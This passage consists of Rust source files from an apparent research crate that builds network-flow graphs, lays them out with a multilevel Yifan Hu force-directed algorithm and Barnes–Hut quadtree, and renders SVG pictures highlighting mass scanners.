        self.adjacency[id as usize].len()
    }

    pub fn id_of(&self, label: &str) -> Option<u32> {
        self.by_label.get(label).copied()
    }

    /// Rebuild the label index and adjacency (after deserialization).
    pub fn rebuild_indexes(&mut self) {
        self.by_label = self
            .nodes
            .iter()
            .enumerate()
            .map(|(i, n)| (n.label.clone(), i as u32))
            .collect();
        self.adjacency = vec![Vec::new(); self.nodes.len()];
        self.edge_set = self.edges.iter().copied().collect();
        let mut seen: FxHashSet<(u32, u32)> = FxHashSet::default();
        for &(a, b) in &self.edges {
            let key = if a < b { (a, b) } else { (b, a) };
            if seen.insert(key) {
                self.adjacency[a as usize].push(b);
                self.adjacency[b as usize].push(a);
            }
        }
    }
}

/// Build a graph from flows, labelling nodes by address. `internal_is` is
/// used to split unannotated endpoints into internal/external groups.
pub fn graph_from_flows(flows: &[Flow], internal_is: impl Fn(Ipv4Addr) -> bool) -> Graph {
    let mut g = Graph::new();
    for f in flows {
        let sg = if internal_is(f.src) {
            NodeGroup::Internal
        } else {
            NodeGroup::External
        };
        let dg = if internal_is(f.dst) {
            NodeGroup::Internal
        } else {
            NodeGroup::External
        };
        let s = g.add_node(f.src.to_string(), sg);
        let d = g.add_node(f.dst.to_string(), dg);
        g.add_edge(s, d);
    }
    g
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::FlowId;
    use simnet::time::SimTime;

    #[test]
    fn dedup_nodes_and_edges() {
        let mut g = Graph::new();
        let a = g.add_node("a", NodeGroup::External);
        let b = g.add_node("b", NodeGroup::Internal);
        let a2 = g.add_node("a", NodeGroup::External);
        assert_eq!(a, a2);
        assert!(g.add_edge(a, b));
        assert!(!g.add_edge(a, b), "duplicate edge rejected");
        assert!(!g.add_edge(a, a), "self loop rejected");
        assert_eq!(g.node_count(), 2);
        assert_eq!(g.edge_count(), 1);
        assert_eq!(g.degree(a), 1);
    }

    #[test]
    fn reverse_direction_is_a_new_edge_but_not_new_adjacency() {
        let mut g = Graph::new();
        let a = g.add_node("a", NodeGroup::External);
        let b = g.add_node("b", NodeGroup::Internal);
        g.add_edge(a, b);
        assert!(g.add_edge(b, a));
        assert_eq!(g.edge_count(), 2);
        assert_eq!(g.degree(a), 1, "layout adjacency stays simple");
    }

    #[test]
    fn annotation() {
        let mut g = Graph::new();
        g.add_node("103.102.8.9", NodeGroup::External);
        assert!(g.annotate("103.102.8.9", NodeGroup::MassScanner));
        assert!(!g.annotate("1.2.3.4", NodeGroup::Scanner));
        assert_eq!(g.node(0).group, NodeGroup::MassScanner);
    }

    #[test]
    fn from_flows_builds_star() {
        let scanner: Ipv4Addr = "103.102.8.9".parse().unwrap();
        let flows: Vec<Flow> = (0..100)
            .map(|i| {
                Flow::probe(
                    FlowId(i),
                    SimTime::from_secs(i),
                    scanner,
                    format!("141.142.2.{}", i + 1).parse().unwrap(),
                    22,
                )
            })
            .collect();
        let g = graph_from_flows(&flows, |a| simnet::addr::ncsa_production().contains(a));
        assert_eq!(g.node_count(), 101);
        assert_eq!(g.edge_count(), 100);
        let sid = g.id_of(&scanner.to_string()).unwrap();
        assert_eq!(g.degree(sid), 100);
        assert_eq!(g.node(sid).group, NodeGroup::External);
    }

    #[test]
    fn rebuild_indexes_after_clear() {
        let mut g = Graph::new();
        let a = g.add_node("a", NodeGroup::External);
        let b = g.add_node("b", NodeGroup::Internal);
        g.add_edge(a, b);
        g.by_label.clear();
        g.adjacency.clear();
        g.rebuild_indexes();
        assert_eq!(g.id_of("a"), Some(a));
        assert_eq!(g.degree(a), 1);
    }
}
