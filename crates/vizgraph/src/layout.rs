//! Yifan Hu force-directed layout.
//!
//! The paper renders Fig. 1 with Gephi, whose default large-graph layout
//! is Yifan Hu's multilevel force-directed algorithm (the paper's ref [4]:
//! "Efficient, high-quality force-directed graph drawing"). We implement
//! the full scheme:
//!
//! - attractive force along edges `f_a(d) = d²/K`,
//! - repulsive force between all pairs `f_r(d) = -C·K²/d`, approximated
//!   with a Barnes–Hut quadtree,
//! - adaptive step control (cooling with progress detection),
//! - multilevel coarsening by greedy heavy-edge matching, laying out the
//!   coarse graph first and interpolating positions back up.
//!
//! Per-iteration force accumulation is data-parallel over nodes (rayon).

use rayon::prelude::*;
use serde::{Deserialize, Serialize};
use simnet::rng::SimRng;

use crate::graph::Graph;
use crate::quadtree::{Body, QuadTree};

/// Layout parameters.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LayoutConfig {
    /// Optimal edge length K.
    pub k: f64,
    /// Relative repulsion strength C.
    pub c: f64,
    /// Barnes–Hut opening parameter θ (0 = exact).
    pub theta: f64,
    /// Iterations per level.
    pub max_iters: usize,
    /// Convergence: stop when max displacement < tol·K.
    pub tolerance: f64,
    /// Initial step length (relative to K).
    pub initial_step: f64,
    /// Multilevel: coarsen until below this size.
    pub coarsest_size: usize,
    /// Use rayon for force accumulation.
    pub parallel: bool,
    /// RNG seed for initial placement.
    pub seed: u64,
}

impl Default for LayoutConfig {
    fn default() -> Self {
        LayoutConfig {
            k: 1.0,
            c: 0.2,
            theta: 0.9,
            max_iters: 120,
            tolerance: 0.01,
            initial_step: 0.1,
            coarsest_size: 64,
            parallel: true,
            seed: 1,
        }
    }
}

/// Node positions, indexed like the graph's nodes.
pub type Positions = Vec<(f64, f64)>;

/// Statistics of a layout run.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct LayoutStats {
    pub levels: usize,
    pub total_iterations: usize,
    pub converged: bool,
}

/// A coarsened level: mapping fine-node → coarse-node.
struct Level {
    /// Coarse adjacency with edge weights.
    adjacency: Vec<Vec<(u32, f64)>>,
    /// Node weights (number of fine nodes merged).
    weights: Vec<f64>,
    /// fine → coarse mapping (len = finer level size).
    mapping: Vec<u32>,
}

/// Coarsen one level by greedy heavy-edge matching.
fn coarsen(adjacency: &[Vec<(u32, f64)>], weights: &[f64]) -> Option<Level> {
    let n = adjacency.len();
    let mut matched = vec![u32::MAX; n];
    let mut coarse_count = 0u32;
    // Visit nodes in order; match each unmatched node with its
    // heaviest-edge unmatched neighbor.
    for u in 0..n {
        if matched[u] != u32::MAX {
            continue;
        }
        let mut best: Option<(u32, f64)> = None;
        for &(v, w) in &adjacency[u] {
            if matched[v as usize] == u32::MAX
                && v as usize != u
                && best.is_none_or(|(_, bw)| w > bw)
            {
                best = Some((v, w));
            }
        }
        let cid = coarse_count;
        coarse_count += 1;
        matched[u] = cid;
        if let Some((v, _)) = best {
            matched[v as usize] = cid;
        }
    }
    // Star-like graphs barely coarsen (leaves cannot match once the hub is
    // taken). Demand a real reduction, or multilevel degenerates into O(n)
    // levels of O(n) memory each.
    if coarse_count as usize >= (n * 9) / 10 {
        return None;
    }
    let mut coarse_adj: Vec<Vec<(u32, f64)>> = vec![Vec::new(); coarse_count as usize];
    let mut coarse_w = vec![0.0f64; coarse_count as usize];
    for u in 0..n {
        coarse_w[matched[u] as usize] += weights[u];
        for &(v, w) in &adjacency[u] {
            let (cu, cv) = (matched[u], matched[v as usize]);
            if cu == cv {
                continue;
            }
            match coarse_adj[cu as usize].iter_mut().find(|(x, _)| *x == cv) {
                Some((_, acc)) => *acc += w,
                None => coarse_adj[cu as usize].push((cv, w)),
            }
        }
    }
    Some(Level {
        adjacency: coarse_adj,
        weights: coarse_w,
        mapping: matched,
    })
}

/// One force-directed refinement pass on an abstract weighted graph.
#[allow(clippy::too_many_arguments)]
fn refine(
    adjacency: &[Vec<(u32, f64)>],
    weights: &[f64],
    positions: &mut Positions,
    cfg: &LayoutConfig,
    stats: &mut LayoutStats,
) {
    let n = adjacency.len();
    if n <= 1 {
        return;
    }
    let k = cfg.k;
    let c = cfg.c;
    let mut step = cfg.initial_step * k * (n as f64).sqrt();
    let mut progress = 0u32;
    let mut last_energy = f64::INFINITY;
    let repulse = move |d: f64, m: f64| c * m * k * k / d;

    for _ in 0..cfg.max_iters {
        stats.total_iterations += 1;
        let bodies: Vec<Body> = positions
            .iter()
            .zip(weights)
            .map(|(&(x, y), &m)| Body { x, y, mass: m })
            .collect();
        let tree = QuadTree::build(&bodies);

        let compute = |i: usize| -> (f64, f64) {
            let (x, y) = positions[i];
            let (mut fx, mut fy) = tree.force_at(x, y, cfg.theta, i as i32, &repulse);
            for &(j, w) in &adjacency[i] {
                let (jx, jy) = positions[j as usize];
                let dx = jx - x;
                let dy = jy - y;
                let d = (dx * dx + dy * dy).sqrt().max(1e-9);
                // Attractive: d²/K, scaled by edge weight.
                let f = w * d * d / k;
                fx += f * dx / d;
                fy += f * dy / d;
            }
            (fx, fy)
        };
        let forces: Vec<(f64, f64)> = if cfg.parallel {
            (0..n).into_par_iter().map(compute).collect()
        } else {
            (0..n).map(compute).collect()
        };

        let mut energy = 0.0;
        let mut max_move = 0.0f64;
        for (i, &(fx, fy)) in forces.iter().enumerate() {
            let mag = (fx * fx + fy * fy).sqrt();
            energy += mag * mag;
            if mag > 1e-12 {
                let mv = step.min(mag);
                positions[i].0 += fx / mag * mv;
                positions[i].1 += fy / mag * mv;
                max_move = max_move.max(mv);
            }
        }
        // Adaptive step (Yifan Hu's cooling with progress detection).
        if energy < last_energy {
            progress += 1;
            if progress >= 5 {
                progress = 0;
                step /= 0.9; // speed up
            }
        } else {
            progress = 0;
            step *= 0.9; // cool down
        }
        last_energy = energy;
        if max_move < cfg.tolerance * k {
            stats.converged = true;
            break;
        }
    }
}

/// Lay out a graph. Returns positions (indexed by node id) and stats.
pub fn layout(graph: &Graph, cfg: &LayoutConfig) -> (Positions, LayoutStats) {
    let n = graph.node_count();
    let mut stats = LayoutStats::default();
    if n == 0 {
        return (Vec::new(), stats);
    }
    // Build the level-0 weighted adjacency.
    let mut adjacency: Vec<Vec<(u32, f64)>> = Vec::with_capacity(n);
    for i in 0..n as u32 {
        adjacency.push(graph.neighbors(i).iter().map(|&j| (j, 1.0)).collect());
    }
    let weights = vec![1.0f64; n];

    // Multilevel coarsening.
    let mut levels: Vec<Level> = Vec::new();
    {
        let mut cur_adj = &adjacency;
        let mut cur_w = &weights;
        while cur_adj.len() > cfg.coarsest_size {
            match coarsen(cur_adj, cur_w) {
                Some(level) => {
                    levels.push(level);
                    let l = levels.last().expect("just pushed");
                    cur_adj = &l.adjacency;
                    cur_w = &l.weights;
                }
                None => break,
            }
        }
    }
    stats.levels = levels.len() + 1;

    // Initial placement at the coarsest level.
    let mut rng = SimRng::seed(cfg.seed);
    let coarsest_n = levels.last().map_or(n, |l| l.adjacency.len());
    let spread = cfg.k * (coarsest_n as f64).sqrt();
    let mut positions: Positions = (0..coarsest_n)
        .map(|_| (rng.uniform(-spread, spread), rng.uniform(-spread, spread)))
        .collect();

    // Refine coarsest, then interpolate down.
    if let Some(last) = levels.last() {
        refine(
            &last.adjacency,
            &last.weights,
            &mut positions,
            cfg,
            &mut stats,
        );
    }
    for li in (0..levels.len()).rev() {
        // Expand positions from level li to the finer level (li-1 or 0).
        let mapping = &levels[li].mapping;
        let finer_n = mapping.len();
        let mut finer: Positions = Vec::with_capacity(finer_n);
        let mut rng_jitter = SimRng::seed(cfg.seed ^ (li as u64 + 1));
        for u in 0..finer_n {
            let (x, y) = positions[mapping[u] as usize];
            finer.push((
                x + rng_jitter.uniform(-0.05, 0.05) * cfg.k,
                y + rng_jitter.uniform(-0.05, 0.05) * cfg.k,
            ));
        }
        positions = finer;
        if li == 0 {
            refine(&adjacency, &weights, &mut positions, cfg, &mut stats);
        } else {
            let l = &levels[li - 1];
            refine(&l.adjacency, &l.weights, &mut positions, cfg, &mut stats);
        }
    }
    if levels.is_empty() {
        refine(&adjacency, &weights, &mut positions, cfg, &mut stats);
    }
    (positions, stats)
}

/// Mean edge-length to K ratio — a layout quality metric (≈1 is ideal for
/// uniformly weighted edges).
pub fn mean_edge_length(graph: &Graph, positions: &Positions) -> f64 {
    if graph.edge_count() == 0 {
        return 0.0;
    }
    let sum: f64 = graph
        .edges()
        .iter()
        .map(|&(a, b)| {
            let (ax, ay) = positions[a as usize];
            let (bx, by) = positions[b as usize];
            ((ax - bx).powi(2) + (ay - by).powi(2)).sqrt()
        })
        .sum();
    sum / graph.edge_count() as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::graph::NodeGroup;

    fn path_graph(n: usize) -> Graph {
        let mut g = Graph::new();
        let ids: Vec<u32> = (0..n)
            .map(|i| g.add_node(format!("n{i}"), NodeGroup::Internal))
            .collect();
        for w in ids.windows(2) {
            g.add_edge(w[0], w[1]);
        }
        g
    }

    fn star_graph(leaves: usize) -> Graph {
        let mut g = Graph::new();
        let hub = g.add_node("hub", NodeGroup::MassScanner);
        for i in 0..leaves {
            let l = g.add_node(format!("leaf{i}"), NodeGroup::Internal);
            g.add_edge(hub, l);
        }
        g
    }

    fn dist(a: (f64, f64), b: (f64, f64)) -> f64 {
        ((a.0 - b.0).powi(2) + (a.1 - b.1).powi(2)).sqrt()
    }

    #[test]
    fn connected_nodes_end_up_closer_than_random_pairs() {
        let g = path_graph(40);
        let cfg = LayoutConfig {
            parallel: false,
            ..Default::default()
        };
        let (pos, _) = layout(&g, &cfg);
        let mean_edge = mean_edge_length(&g, &pos);
        // Mean distance between far-apart path nodes:
        let far = dist(pos[0], pos[39]);
        assert!(
            far > 3.0 * mean_edge,
            "path endpoints spread out: {far} vs {mean_edge}"
        );
    }

    #[test]
    fn star_hub_is_central() {
        let g = star_graph(60);
        let cfg = LayoutConfig {
            parallel: false,
            seed: 3,
            ..Default::default()
        };
        let (pos, _) = layout(&g, &cfg);
        // The hub should sit near the leaves' centroid — the visual
        // signature of the Fig. 1 mass scanner.
        let (mut cx, mut cy) = (0.0, 0.0);
        for p in &pos[1..] {
            cx += p.0;
            cy += p.1;
        }
        cx /= (pos.len() - 1) as f64;
        cy /= (pos.len() - 1) as f64;
        let hub_to_centroid = dist(pos[0], (cx, cy));
        let mean_leaf_dist: f64 =
            pos[1..].iter().map(|&p| dist(p, (cx, cy))).sum::<f64>() / (pos.len() - 1) as f64;
        assert!(
            hub_to_centroid < 0.5 * mean_leaf_dist,
            "hub {hub_to_centroid} vs leaf ring {mean_leaf_dist}"
        );
    }

    #[test]
    fn multilevel_kicks_in_for_larger_graphs() {
        let g = path_graph(500);
        let cfg = LayoutConfig {
            parallel: false,
            max_iters: 30,
            ..Default::default()
        };
        let (_, stats) = layout(&g, &cfg);
        assert!(
            stats.levels > 1,
            "expected coarsening, got {} levels",
            stats.levels
        );
    }

    #[test]
    fn parallel_and_sequential_agree() {
        // Same seed → same deterministic force sums (rayon only changes
        // evaluation order of an identical pure map).
        let g = star_graph(50);
        let seq = layout(
            &g,
            &LayoutConfig {
                parallel: false,
                ..Default::default()
            },
        )
        .0;
        let par = layout(
            &g,
            &LayoutConfig {
                parallel: true,
                ..Default::default()
            },
        )
        .0;
        for (a, b) in seq.iter().zip(&par) {
            assert!((a.0 - b.0).abs() < 1e-9 && (a.1 - b.1).abs() < 1e-9);
        }
    }

    #[test]
    fn empty_and_single_node() {
        let g = Graph::new();
        let (pos, _) = layout(&g, &LayoutConfig::default());
        assert!(pos.is_empty());
        let mut g1 = Graph::new();
        g1.add_node("only", NodeGroup::Internal);
        let (pos, _) = layout(
            &g1,
            &LayoutConfig {
                parallel: false,
                ..Default::default()
            },
        );
        assert_eq!(pos.len(), 1);
        assert!(pos[0].0.is_finite());
    }

    #[test]
    fn coarsening_halves_path() {
        let adjacency: Vec<Vec<(u32, f64)>> = (0..10u32)
            .map(|i| {
                let mut v = Vec::new();
                if i > 0 {
                    v.push((i - 1, 1.0));
                }
                if i < 9 {
                    v.push((i + 1, 1.0));
                }
                v
            })
            .collect();
        let weights = vec![1.0; 10];
        let level = coarsen(&adjacency, &weights).expect("path must coarsen");
        assert_eq!(level.adjacency.len(), 5);
        assert_eq!(level.mapping.len(), 10);
        let total_weight: f64 = level.weights.iter().sum();
        assert!((total_weight - 10.0).abs() < 1e-12, "mass conserved");
    }
}
