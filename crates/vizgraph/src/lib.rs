//! # vizgraph — attack graph visualization
//!
//! The Fig. 1 pipeline: build a connection graph from flows, lay it out
//! with Yifan Hu's multilevel force-directed algorithm (the paper's
//! ref [4], as used by Gephi), and export DOT (the paper's anonymized
//! `103.102. -> 141.142.` format) or SVG. Degree analytics surface the
//! mass scanner structurally.
//!
//! - [`graph`] — nodes/edges with role annotations.
//! - [`quadtree`] — Barnes–Hut approximation for repulsive forces.
//! - [`layout`] — multilevel Yifan Hu with adaptive cooling, parallel
//!   force accumulation (rayon).
//! - [`dot`] / [`svg`] — exporters (+ DOT parser).
//! - [`degree`] — hubs, histograms, structural scanner detection.

pub mod degree;
pub mod dot;
pub mod graph;
pub mod layout;
pub mod quadtree;
pub mod svg;

pub use degree::{
    annotate_scanners, degree_histogram, hub_dominance, structural_scanners, top_hubs, HubEntry,
};
pub use dot::{from_dot, to_dot, DotOptions};
pub use graph::{graph_from_flows, Graph, Node, NodeGroup};
pub use layout::{layout, mean_edge_length, LayoutConfig, LayoutStats, Positions};
pub use quadtree::{Body, QuadTree};
pub use svg::{to_svg, SvgOptions};
