//! Barnes–Hut quadtree for O(n log n) repulsive-force approximation.
//!
//! Force-directed layout is all-pairs repulsion; at Fig. 1's scale (29 K
//! nodes) the naive O(n²) pass is ~845 M interactions per iteration. The
//! quadtree groups distant nodes into super-nodes: with opening parameter
//! θ, a cell of side `s` at distance `d` is treated as a single point mass
//! when `s/d < θ`.

/// A body to insert.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Body {
    pub x: f64,
    pub y: f64,
    pub mass: f64,
}

#[derive(Debug, Clone, Copy)]
struct Cell {
    // Geometry.
    cx: f64,
    cy: f64,
    half: f64,
    // Aggregates.
    mass: f64,
    com_x: f64,
    com_y: f64,
    /// Index of first child cell, or -1 for a leaf.
    child: i32,
    /// Body stored in a leaf, or -1.
    body: i32,
}

impl Cell {
    fn new(cx: f64, cy: f64, half: f64) -> Cell {
        Cell {
            cx,
            cy,
            half,
            mass: 0.0,
            com_x: 0.0,
            com_y: 0.0,
            child: -1,
            body: -1,
        }
    }

    fn quadrant_of(&self, x: f64, y: f64) -> usize {
        let mut q = 0;
        if x > self.cx {
            q |= 1;
        }
        if y > self.cy {
            q |= 2;
        }
        q
    }
}

/// The quadtree.
pub struct QuadTree {
    cells: Vec<Cell>,
    bodies: Vec<Body>,
    max_depth: usize,
}

impl QuadTree {
    /// Build from bodies. Bodies at identical positions are safe (depth is
    /// capped; coincident bodies aggregate in one leaf).
    pub fn build(bodies: &[Body]) -> QuadTree {
        assert!(!bodies.is_empty(), "quadtree needs at least one body");
        let (mut min_x, mut min_y) = (f64::INFINITY, f64::INFINITY);
        let (mut max_x, mut max_y) = (f64::NEG_INFINITY, f64::NEG_INFINITY);
        for b in bodies {
            min_x = min_x.min(b.x);
            min_y = min_y.min(b.y);
            max_x = max_x.max(b.x);
            max_y = max_y.max(b.y);
        }
        let half = ((max_x - min_x).max(max_y - min_y) / 2.0).max(1e-9) * 1.001;
        let mut tree = QuadTree {
            cells: vec![Cell::new(
                (min_x + max_x) / 2.0,
                (min_y + max_y) / 2.0,
                half,
            )],
            bodies: bodies.to_vec(),
            max_depth: 48,
        };
        tree.cells.reserve(bodies.len() * 2);
        for i in 0..bodies.len() {
            tree.insert(0, i as i32, 0);
        }
        tree.aggregate(0);
        tree
    }

    fn subdivide(&mut self, cell: usize) {
        let c = self.cells[cell];
        let h = c.half / 2.0;
        let first = self.cells.len() as i32;
        for q in 0..4 {
            let dx = if q & 1 == 1 { h } else { -h };
            let dy = if q & 2 == 2 { h } else { -h };
            self.cells.push(Cell::new(c.cx + dx, c.cy + dy, h));
        }
        self.cells[cell].child = first;
    }

    fn insert(&mut self, cell: usize, body: i32, depth: usize) {
        let b = self.bodies[body as usize];
        if self.cells[cell].child >= 0 {
            // Internal cell: descend.
            let q = self.cells[cell].quadrant_of(b.x, b.y);
            let child = (self.cells[cell].child as usize) + q;
            self.insert(child, body, depth + 1);
            return;
        }
        if self.cells[cell].body < 0 {
            self.cells[cell].body = body;
            return;
        }
        if depth >= self.max_depth {
            // Coincident bodies: merge mass into the resident body's slot
            // by aggregating at aggregate() time. Keep only aggregate mass
            // by chaining into the same leaf via mass accumulation.
            let resident = self.cells[cell].body as usize;
            let extra = self.bodies[body as usize];
            let r = &mut self.bodies[resident];
            // Weighted average position (they are coincident anyway).
            let m = r.mass + extra.mass;
            r.x = (r.x * r.mass + extra.x * extra.mass) / m;
            r.y = (r.y * r.mass + extra.y * extra.mass) / m;
            r.mass = m;
            return;
        }
        // Leaf with a resident body: split and reinsert both.
        let resident = self.cells[cell].body;
        self.cells[cell].body = -1;
        self.subdivide(cell);
        self.insert(cell, resident, depth);
        self.insert(cell, body, depth);
    }

    fn aggregate(&mut self, cell: usize) -> (f64, f64, f64) {
        let c = self.cells[cell];
        let (mass, cx, cy) = if c.child >= 0 {
            let mut mass = 0.0;
            let mut mx = 0.0;
            let mut my = 0.0;
            for q in 0..4 {
                let (m, x, y) = self.aggregate(c.child as usize + q);
                mass += m;
                mx += x * m;
                my += y * m;
            }
            if mass > 0.0 {
                (mass, mx / mass, my / mass)
            } else {
                (0.0, c.cx, c.cy)
            }
        } else if c.body >= 0 {
            let b = self.bodies[c.body as usize];
            (b.mass, b.x, b.y)
        } else {
            (0.0, c.cx, c.cy)
        };
        let cell_mut = &mut self.cells[cell];
        cell_mut.mass = mass;
        cell_mut.com_x = cx;
        cell_mut.com_y = cy;
        (mass, cx, cy)
    }

    /// Accumulated repulsive force on point `(x, y)` with kernel
    /// `magnitude(distance, other_mass)`; the force points away from the
    /// attracting mass. `skip_body` excludes one body (the node itself).
    pub fn force_at(
        &self,
        x: f64,
        y: f64,
        theta: f64,
        skip_body: i32,
        magnitude: &dyn Fn(f64, f64) -> f64,
    ) -> (f64, f64) {
        let mut fx = 0.0;
        let mut fy = 0.0;
        // Explicit stack to avoid recursion overhead.
        let mut stack: Vec<usize> = Vec::with_capacity(64);
        stack.push(0);
        while let Some(cell) = stack.pop() {
            let c = &self.cells[cell];
            if c.mass <= 0.0 {
                continue;
            }
            let dx = x - c.com_x;
            let dy = y - c.com_y;
            let dist2 = dx * dx + dy * dy;
            let dist = dist2.sqrt().max(1e-9);
            let size = c.half * 2.0;
            if c.child < 0 {
                // Leaf.
                if c.body >= 0 && c.body != skip_body {
                    let m = magnitude(dist, c.mass);
                    fx += m * dx / dist;
                    fy += m * dy / dist;
                }
                continue;
            }
            if size / dist < theta {
                // Far enough: treat as a super node. If the skipped body is
                // inside this cell its contribution is approximated away —
                // acceptable at distances where the approximation applies.
                let m = magnitude(dist, c.mass);
                fx += m * dx / dist;
                fy += m * dy / dist;
            } else {
                for q in 0..4 {
                    stack.push(c.child as usize + q);
                }
            }
        }
        (fx, fy)
    }

    /// Exact O(n) reference force (for validation and the θ ablation).
    pub fn force_exact(
        bodies: &[Body],
        x: f64,
        y: f64,
        skip_body: i32,
        magnitude: &dyn Fn(f64, f64) -> f64,
    ) -> (f64, f64) {
        let mut fx = 0.0;
        let mut fy = 0.0;
        for (i, b) in bodies.iter().enumerate() {
            if i as i32 == skip_body {
                continue;
            }
            let dx = x - b.x;
            let dy = y - b.y;
            let dist = (dx * dx + dy * dy).sqrt().max(1e-9);
            let m = magnitude(dist, b.mass);
            fx += m * dx / dist;
            fy += m * dy / dist;
        }
        (fx, fy)
    }

    pub fn cell_count(&self) -> usize {
        self.cells.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::rng::SimRng;

    fn random_bodies(n: usize, seed: u64) -> Vec<Body> {
        let mut rng = SimRng::seed(seed);
        (0..n)
            .map(|_| Body {
                x: rng.uniform(-100.0, 100.0),
                y: rng.uniform(-100.0, 100.0),
                mass: 1.0,
            })
            .collect()
    }

    /// Yifan Hu repulsive kernel: C·K²/d with C=1, K=10.
    fn kernel(d: f64, m: f64) -> f64 {
        m * 100.0 / d
    }

    #[test]
    fn small_theta_matches_exact() {
        let bodies = random_bodies(500, 1);
        let tree = QuadTree::build(&bodies);
        for i in (0..500).step_by(37) {
            let b = bodies[i];
            let (ax, ay) = tree.force_at(b.x, b.y, 0.0, i as i32, &kernel);
            let (ex, ey) = QuadTree::force_exact(&bodies, b.x, b.y, i as i32, &kernel);
            assert!(
                (ax - ex).abs() < 1e-6 && (ay - ey).abs() < 1e-6,
                "θ=0 must be exact"
            );
        }
    }

    #[test]
    fn moderate_theta_approximates_within_tolerance() {
        let bodies = random_bodies(2_000, 2);
        let tree = QuadTree::build(&bodies);
        let mut rel_err_sum = 0.0;
        let mut count = 0;
        for i in (0..2_000).step_by(101) {
            let b = bodies[i];
            let (ax, ay) = tree.force_at(b.x, b.y, 0.8, i as i32, &kernel);
            let (ex, ey) = QuadTree::force_exact(&bodies, b.x, b.y, i as i32, &kernel);
            let mag = (ex * ex + ey * ey).sqrt().max(1e-9);
            let err = ((ax - ex).powi(2) + (ay - ey).powi(2)).sqrt() / mag;
            rel_err_sum += err;
            count += 1;
        }
        let mean_err = rel_err_sum / count as f64;
        assert!(
            mean_err < 0.1,
            "mean relative error {mean_err} too large for θ=0.8"
        );
    }

    #[test]
    fn coincident_bodies_handled() {
        let mut bodies = vec![
            Body {
                x: 1.0,
                y: 1.0,
                mass: 1.0
            };
            10
        ];
        bodies.push(Body {
            x: 5.0,
            y: 5.0,
            mass: 1.0,
        });
        let tree = QuadTree::build(&bodies);
        let (fx, fy) = tree.force_at(5.0, 5.0, 0.5, 10, &kernel);
        // All mass at (1,1) pushes the probe toward +x,+y.
        assert!(fx > 0.0 && fy > 0.0);
        assert!(fx.is_finite() && fy.is_finite());
    }

    #[test]
    fn single_body_tree() {
        let bodies = vec![Body {
            x: 0.0,
            y: 0.0,
            mass: 2.0,
        }];
        let tree = QuadTree::build(&bodies);
        let (fx, fy) = tree.force_at(10.0, 0.0, 0.8, -1, &kernel);
        assert!(fx > 0.0);
        assert_eq!(fy, 0.0);
    }

    #[test]
    fn tree_size_is_linear_ish() {
        let bodies = random_bodies(10_000, 3);
        let tree = QuadTree::build(&bodies);
        assert!(
            tree.cell_count() < 10_000 * 8,
            "cells: {}",
            tree.cell_count()
        );
    }
}
