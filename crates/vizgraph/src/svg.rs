//! SVG rendering of laid-out graphs.
//!
//! Produces the Fig. 1-style picture: edges as thin lines, nodes as small
//! circles colored by role (mass scanner orange at the center of its star,
//! real attacker red, targets blue, legit traffic gray).

use std::fmt::Write as _;

use crate::graph::{Graph, NodeGroup};
use crate::layout::Positions;

/// Rendering options.
#[derive(Debug, Clone)]
pub struct SvgOptions {
    pub width: f64,
    pub height: f64,
    pub node_radius: f64,
    pub edge_opacity: f64,
    /// Scale node radius by sqrt(degree) to make hubs visible.
    pub scale_by_degree: bool,
}

impl Default for SvgOptions {
    fn default() -> Self {
        SvgOptions {
            width: 1_600.0,
            height: 1_600.0,
            node_radius: 1.6,
            edge_opacity: 0.25,
            scale_by_degree: true,
        }
    }
}

fn fill_of(group: NodeGroup) -> &'static str {
    match group {
        NodeGroup::MassScanner => "#ff8c00",
        NodeGroup::Scanner => "#ffd700",
        NodeGroup::Attacker => "#d00000",
        NodeGroup::Target => "#0033cc",
        NodeGroup::Internal => "#7eb6ff",
        NodeGroup::External => "#9a9a9a",
    }
}

/// Render to an SVG string.
pub fn to_svg(graph: &Graph, positions: &Positions, opts: &SvgOptions) -> String {
    assert_eq!(
        graph.node_count(),
        positions.len(),
        "positions must match nodes"
    );
    let mut out = String::with_capacity(graph.node_count() * 64 + graph.edge_count() * 64);
    let _ = writeln!(
        out,
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{}\" height=\"{}\" viewBox=\"0 0 {} {}\">",
        opts.width, opts.height, opts.width, opts.height
    );
    let _ = writeln!(out, "<rect width=\"100%\" height=\"100%\" fill=\"white\"/>");
    if graph.node_count() == 0 {
        out.push_str("</svg>\n");
        return out;
    }
    // Fit positions into the viewport with a 5% margin.
    let (mut min_x, mut min_y) = (f64::INFINITY, f64::INFINITY);
    let (mut max_x, mut max_y) = (f64::NEG_INFINITY, f64::NEG_INFINITY);
    for &(x, y) in positions {
        min_x = min_x.min(x);
        min_y = min_y.min(y);
        max_x = max_x.max(x);
        max_y = max_y.max(y);
    }
    let span_x = (max_x - min_x).max(1e-9);
    let span_y = (max_y - min_y).max(1e-9);
    let margin = 0.05;
    let sx = opts.width * (1.0 - 2.0 * margin) / span_x;
    let sy = opts.height * (1.0 - 2.0 * margin) / span_y;
    let s = sx.min(sy);
    let tx = |x: f64| (x - min_x) * s + opts.width * margin;
    let ty = |y: f64| (y - min_y) * s + opts.height * margin;

    let _ = writeln!(
        out,
        "<g stroke=\"#555\" stroke-width=\"0.4\" stroke-opacity=\"{}\">",
        opts.edge_opacity
    );
    for &(a, b) in graph.edges() {
        let (ax, ay) = positions[a as usize];
        let (bx, by) = positions[b as usize];
        let _ = writeln!(
            out,
            "<line x1=\"{:.1}\" y1=\"{:.1}\" x2=\"{:.1}\" y2=\"{:.1}\"/>",
            tx(ax),
            ty(ay),
            tx(bx),
            ty(by)
        );
    }
    out.push_str("</g>\n");
    for (i, n) in graph.nodes().iter().enumerate() {
        let (x, y) = positions[i];
        let r = if opts.scale_by_degree {
            opts.node_radius * (1.0 + (graph.degree(i as u32) as f64).sqrt() * 0.3)
        } else {
            opts.node_radius
        };
        let _ = writeln!(
            out,
            "<circle cx=\"{:.1}\" cy=\"{:.1}\" r=\"{:.2}\" fill=\"{}\"/>",
            tx(x),
            ty(y),
            r,
            fill_of(n.group)
        );
    }
    out.push_str("</svg>\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::graph::Graph;

    #[test]
    fn svg_structure() {
        let mut g = Graph::new();
        let a = g.add_node("a", NodeGroup::MassScanner);
